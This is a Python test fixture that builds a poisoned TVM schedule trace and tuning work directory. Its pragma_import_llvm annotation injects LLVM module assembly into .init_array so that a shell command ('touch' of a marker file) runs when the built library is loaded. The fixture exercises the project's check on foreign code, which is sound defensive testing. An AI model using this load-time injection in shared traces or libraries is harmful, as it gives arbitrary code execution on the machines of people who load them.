"""A shared trace that runs a shell command when its build is loaded: the attack the check of
code from elsewhere (``mlc_jupyter.compilation.foreign``) stops.

Its one real step is ``sch.annotate(loop, "pragma_import_llvm", IR)``, where ``IR`` is module
assembly that puts a function into ``.init_array``: the dynamic loader calls it when the built
library is loaded (the next session's disk-cache hit, the exported loader, an RPC server), and it
calls ``system("touch MARKER")``.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

#: A kernel a notebook would hold; the trace schedules it.
ADD_ONE = """
@T.prim_func
def add_one(A: T.Buffer((16,), "float32"), B: T.Buffer((16,), "float32")):
    T.func_attr({"global_symbol": "add_one", "tir.noalias": True})
    for i in range(16):
        with T.block("B"):
            vi = T.axis.remap("S", [i])
            B[vi] = A[vi] + T.float32(1)
"""


def payload_ir(marker: Path) -> str:
    """LLVM IR whose module assembly runs ``touch marker`` when the library is loaded."""
    lines = [
        ".text", "mlc_payload:", "leaq mlc_cmd(%rip), %rdi", "jmp system@PLT",
        ".section .init_array,\\22aw\\22", ".quad mlc_payload",
        ".section .rodata", f"mlc_cmd: .asciz \\22touch {marker}\\22", ".text",
    ]  # fmt: skip
    return "".join(f'module asm "{line}"\n' for line in lines)


def add_one() -> Any:
    from mlc_jupyter import parse_tir

    return parse_tir(ADD_ONE)


def poisoned_schedule(mod: Any, marker: Path) -> Any:
    """A schedule of ``mod`` (``add_one``) whose third step imports the payload."""
    from mlc_jupyter.tvm_compat import Schedule, get_block

    sch = Schedule(mod)
    (loop,) = sch.get_loops(get_block(sch, "B"))
    sch.annotate(loop, "pragma_import_llvm", payload_ir(marker))
    return sch


def poisoned_trace_json(mod: Any, marker: Path) -> str:
    """The shared trace as the file a user would receive."""
    return json.dumps(poisoned_schedule(mod, marker).trace.as_json())


def poisoned_work_dir(work: Path, mod: Any, marker: Path) -> Path:
    """A tuning work dir whose one record is the poisoned schedule, as a shared work dir."""
    from mlc_jupyter.tune.records import create_database
    from mlc_jupyter.tune.work_lock import hold_work_dir
    from mlc_jupyter.tvm_compat import ir_module_type, metaschedule, tvm

    with hold_work_dir(work):
        database = create_database(work)
        workload = database.commit_workload(ir_module_type()({"main": mod}))
        trace = poisoned_schedule(mod, marker).trace
        target = tvm().target.Target("llvm")
        database.commit_tuning_record(
            metaschedule().database.TuningRecord(trace, workload, [1e-5], target)
        )
    return work
